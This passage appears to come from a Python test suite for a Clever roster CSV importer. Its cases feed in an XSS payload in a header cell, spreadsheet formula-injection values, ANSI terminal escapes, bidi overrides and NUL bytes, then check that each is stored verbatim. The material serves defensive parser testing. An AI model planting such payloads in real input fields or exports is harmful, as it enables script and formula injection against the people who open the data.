            ).encode(),
        ),
        (EXT,),
        stored=(
            ("students", "S-002", "First_name", SCRIPT),
            ("students", "S-002", "Last_name", IMG),
            ("schools", "SCH-1", "School_name", IMG),
        ),
        rows=TINY_ROWS,
    ),
    Case(
        "html-in-header",
        "a header cell that is markup",
        tiny_with(
            students_csv=students(
                STUDENTS_HEADER + ",<b onmouseover=alert(1)>x</b>",
                *(line + ",1" for line in TINY_STUDENTS[1:]),
            )
        ),
        (EXT, ("unknown-column", "students", None, "<b onmouseover=alert(1)>x</b>", None)),
        stored=(("students", "S-002", "<b onmouseover=alert(1)>x</b>", "1"),),
        rows=TINY_ROWS,
    ),
    Case(
        "formula-values",
        "spreadsheet formulas in values (kept verbatim: Clever bundles are not spreadsheets)",
        tiny_with(
            students_csv=_students_with(
                Last_name=HYPERLINK,
                First_name="+1+1",
                Student_number="-2+3",
                Grade="@SUM(A1:A9)",
                **{"ext.house": CMD},
            )
        ),
        (EXT,),
        stored=(
            ("students", "S-002", "Last_name", HYPERLINK),
            ("students", "S-002", "First_name", "+1+1"),
            ("students", "S-002", "Student_number", "-2+3"),
            ("students", "S-002", "Grade", "@SUM(A1:A9)"),
            ("students", "S-002", "ext.house", CMD),
        ),
        rows=TINY_ROWS,
    ),
    Case(
        "ids-in-scientific-notation",
        "IDs Excel rewrote as 1.23457E+11: kept as text, never as numbers",
        tiny_with(students_csv=_students_with(Student_id="1.23457E+11", Student_number="1.23E+05")),
        (EXT,),
        stored=(("students", "1.23457E+11", "Student_number", "1.23E+05"),),
        rows=TINY_ROWS,
        checked=(
            ("excel-damage", "students", "Student_id", "1.23457E+11", 3),
            ("excel-damage", "students", "Student_number", "1.23E+05", 3),
        ),
    ),
    Case(
        "terminal-escapes",
        "ANSI escape sequences in a name",
        tiny_with(students_csv=_students_with(First_name="\x1b[31mBo\x1b[0m\x07")),
        (EXT,),
        stored=(("students", "S-002", "First_name", "\x1b[31mBo\x1b[0m\x07"),),
        rows=TINY_ROWS,
    ),
    Case(
        "unicode-controls",
        "a right-to-left override, a zero-width joiner and an emoji in names",
        tiny_with(students_csv=_students_with(Last_name="\u202eziaD", First_name="B\u200do 👩‍🎓")),
        (EXT,),
        stored=(
            ("students", "S-002", "Last_name", "\u202eziaD"),
            ("students", "S-002", "First_name", "B\u200do 👩‍🎓"),
        ),
        rows=TINY_ROWS,
    ),
    Case(
        "nul-in-header",
        "a NUL byte inside an extension column's name: kept, and canonical export still writes it",
        tiny_with(
            students_csv=students(
                STUDENTS_HEADER.replace("ext.house", NUL_NAME), *TINY_STUDENTS[1:]
            )
        ),
        (("extension-column", "students", None, NUL_NAME, None),),
        stored=(("students", "S-002", NUL_NAME, "blue"),),
        rows=TINY_ROWS,
    ),
    Case(
        "control-characters-in-header",
        "an ESC sequence, a BEL, a C1 CSI and a bidi override in a column name",
        tiny_with(students_csv=students(STUDENTS_HEADER.replace("ext.house", ESCAPES_NAME), *ROWS)),
        (("extension-column", "students", None, ESCAPES_NAME, None),),
        stored=(("students", "S-002", ESCAPES_NAME, "blue"),),
        rows=TINY_ROWS,
    ),
)
